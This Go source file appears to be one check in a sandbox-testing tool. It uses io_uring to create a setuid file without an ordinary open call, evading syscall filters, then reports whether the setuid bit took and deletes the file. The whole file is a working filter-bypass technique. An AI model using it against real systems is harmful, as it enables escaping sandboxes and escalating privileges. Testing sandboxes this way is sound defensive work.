package attack

import (
	"os"
	"runtime"
	"unsafe"

	"golang.org/x/sys/unix"
)

// Of include/uapi/linux/io_uring.h.
type (
	ringParams struct {
		sqEntries, cqEntries, flags, threadCPU, threadIdle, features, wqFD uint32
		_                                                                  [3]uint32
		sq                                                                 ringOffsets
		cq                                                                 [5]uint64
	}
	ringOffsets struct {
		head, tail, mask, entries, flags, dropped, array, _ uint32
		_                                                   uint64
	}
	ringEntry struct {
		op, flags  uint8
		ioprio     uint16
		fd         int32
		off        uint64
		addr       uint64
		len        uint32
		openFlags  uint32
		userData   uint64
		_, _, _, _ uint32
		_          uint64
	}
)

// ringOpen makes a program with the caller's rights by a request to the kernel that is
// no call, so that no filter sees its mode.
func ringOpen(*Target) error {
	var params ringParams
	fd, _, errno := unix.Syscall(unix.SYS_IO_URING_SETUP, 1, uintptr(unsafe.Pointer(&params)), 0)
	if errno != 0 {
		return errno
	}
	defer unix.Close(int(fd))
	const offRing, offEntries = 0, 0x10000000 // IORING_OFF_SQ_RING, IORING_OFF_SQES
	ring, err := unix.Mmap(int(fd), offRing, int(params.sq.array)+4, unix.PROT_READ|unix.PROT_WRITE, unix.MAP_SHARED)
	if err != nil {
		return err
	}
	entries, err := unix.Mmap(int(fd), offEntries, int(unsafe.Sizeof(ringEntry{})), unix.PROT_READ|unix.PROT_WRITE, unix.MAP_SHARED)
	if err != nil {
		return err
	}
	name := own(".")
	path, err := unix.BytePtrFromString(name)
	if err != nil {
		return err
	}
	*(*ringEntry)(unsafe.Pointer(&entries[0])) = ringEntry{
		op: 18, fd: unix.AT_FDCWD, addr: uint64(uintptr(unsafe.Pointer(path))), // IORING_OP_OPENAT
		len: unix.S_ISUID | 0o700, openFlags: unix.O_CREAT | unix.O_EXCL | unix.O_WRONLY | unix.O_CLOEXEC,
	}
	*(*uint32)(unsafe.Pointer(&ring[params.sq.tail]))++ // the kernel looks in the call below
	const getEvents = 1                                 // IORING_ENTER_GETEVENTS
	err = call(unix.SYS_IO_URING_ENTER, fd, 1, 1, getEvents, 0, 0)
	defer os.Remove(name)
	runtime.KeepAlive(path)
	if err != nil {
		return err
	}
	info, err := os.Stat(name)
	if err != nil {
		return err
	}
	return found(info.Mode()&os.ModeSetuid != 0)
}
